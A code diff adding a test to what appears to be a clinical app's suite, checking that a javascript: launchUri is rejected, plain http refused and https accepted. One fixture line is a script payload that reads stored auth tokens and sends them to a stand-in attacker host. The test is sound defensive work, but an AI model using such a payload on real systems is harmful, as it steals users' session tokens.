@@ -90,6 +90,23 @@ describe('ClientApplication redirect URIs are https (or http on loopback)', () =
     expect(issueExpressions(validated.body)).toContain('ClientApplication.redirectUri');
   });
 
+  it('refuses a script launchUri too (the chart sends clinicians there), naming it and storing nothing', async () => {
+    const name = `Launch thief ${Date.now()}`;
+    const refused = await create({
+      name,
+      redirectUri: 'https://app.example/cb',
+      launchUri: 'javascript:fetch("https://evil.example/?t="+localStorage.getItem("hearth.tokens"))//',
+    });
+    expect(refused.status).toBe(400);
+    expect(issueExpressions(refused.body)).toEqual(['ClientApplication.launchUri']);
+    expect(issueText(refused.body)).toBe('Launch URI scheme "javascript:" is not allowed: use https');
+    expect(await countNamed(name)).toBe(0);
+    const plainHttp = await create({ name, launchUri: 'http://apps.example/launch' });
+    expect(issueText(plainHttp.body)).toBe('Launch URI must use https (http only for localhost or 127.0.0.1)');
+    const accepted = await create({ name, launchUri: 'https://apps.example/launch?client=1' });
+    expect(accepted.status).toBe(201);
+  });
+
   it('authorize and auth/login refuse a script address, registered or not', async () => {
     const created = await create({ name: 'Registered', redirectUri: 'https://app.example/cb' });
     const authorize = await fetch(
